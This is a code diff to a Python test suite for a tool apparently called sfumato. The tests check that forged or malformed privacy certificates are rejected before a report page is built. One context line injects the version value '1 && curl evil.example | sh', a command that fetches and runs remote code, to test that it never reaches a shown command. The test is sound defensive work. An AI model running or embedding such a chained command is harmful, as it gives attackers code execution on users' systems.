@@ -207,3 +207,37 @@ def test_a_forged_version_never_becomes_part_of_a_command(unheard):
     forged["versions"]["sfumato"] = "1 && curl evil.example | sh"
     text = words(report_page(unheard, forged, None))
     assert "$ pip install sfumato $ sfumato verify" in text
+
+
+@pytest.mark.parametrize(
+    ("part", "value"),
+    [
+        ("versions", None),
+        ("versions", ["sfumato"]),
+        ("versions", {"sfumato": None}),
+        ("files", None),
+        ("files", {"x": 7}),
+        ("parameters", None),
+        ("code", 7),
+        ("ledger", "patients.ledger#1"),
+        ("ledger", {"reference": "x#1"}),
+        ("signature", {"fingerprint": None}),
+        ("signature", 7),
+    ],
+)
+def test_a_malformed_certificate_gets_no_page(unheard, part, value):
+    from sfumato.privacy.certificate import certify
+
+    forged = {**certify(unheard, unheard.files()), part: value}
+    with pytest.raises(UnsoundRelease, match=f"its {part} cannot be read; no report"):
+        report_page(unheard, forged, None)
+
+
+@pytest.mark.parametrize("part", ["versions", "files", "parameters", "code"])
+def test_a_certificate_without_a_part_gets_no_page(unheard, part):
+    from sfumato.privacy.certificate import certify
+
+    forged = certify(unheard, unheard.files())
+    del forged[part]
+    with pytest.raises(UnsoundRelease, match=f"its {part} cannot be read; no report"):
+        report_page(unheard, forged, None)
